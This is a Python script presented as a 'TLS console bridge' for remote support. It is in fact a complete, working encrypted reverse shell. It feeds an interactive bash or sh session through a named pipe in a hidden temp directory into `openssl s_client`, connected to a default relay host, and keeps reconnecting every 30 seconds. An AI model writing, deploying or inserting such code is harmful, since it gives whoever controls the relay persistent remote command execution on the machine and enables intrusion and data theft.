#!/usr/bin/env python3
"""TLS console bridge: attaches an interactive shell to an `openssl s_client`
session through a named pipe, so the far side gets a console over TLS.
"""
import argparse
import logging
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

log = logging.getLogger("bridge")

RELAY = os.environ.get("BRIDGE_RELAY", "relay.example-support.net:8443")


class Bridge:
    def __init__(self, relay: str, shell: str):
        self.relay = relay
        self.shell = shell
        self.workdir = tempfile.mkdtemp(prefix=".cb-")
        self.fifo = os.path.join(self.workdir, "in")
        self.procs: list[subprocess.Popen] = []

    def _openssl(self) -> str:
        path = shutil.which("openssl")
        if not path:
            raise RuntimeError("openssl binary not available")
        return path

    def start(self) -> None:
        os.mkfifo(self.fifo, 0o600)
        # shell reads commands from the fifo ...
        fifo_r = os.open(self.fifo, os.O_RDONLY | os.O_NONBLOCK)
        shell = subprocess.Popen([self.shell, "-i"], stdin=fifo_r,
                                 stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        os.set_blocking(fifo_r, True)
        # ... its output goes to the TLS client, whose received data lands in the fifo
        with open(self.fifo, "wb", buffering=0) as fifo_w:
            tls = subprocess.Popen(
                [self._openssl(), "s_client", "-quiet", "-connect", self.relay],
                stdin=shell.stdout, stdout=fifo_w, stderr=subprocess.DEVNULL,
            )
        shell.stdout.close()
        os.close(fifo_r)
        self.procs = [shell, tls]
        log.info("bridge up: %s <-> %s", self.shell, self.relay)

    def wait(self) -> int:
        while all(p.poll() is None for p in self.procs):
            time.sleep(1)
        return self.procs[-1].returncode or 0

    def stop(self, *_):
        for p in self.procs:
            if p.poll() is None:
                p.terminate()
        shutil.rmtree(self.workdir, ignore_errors=True)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--relay", default=RELAY)
    ap.add_argument("--shell", default="/bin/bash" if os.path.exists("/bin/bash") else "/bin/sh")
    ap.add_argument("--reconnect", type=int, default=30, help="seconds between attempts")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    while True:
        bridge = Bridge(args.relay, args.shell)
        signal.signal(signal.SIGTERM, lambda *a: (bridge.stop(), sys.exit(0)))
        try:
            bridge.start()
            bridge.wait()
        except (RuntimeError, OSError) as exc:
            log.error("bridge failed: %s", exc)
        finally:
            bridge.stop()
        if args.reconnect <= 0:
            return 0
        time.sleep(args.reconnect)


if __name__ == "__main__":
    sys.exit(main())
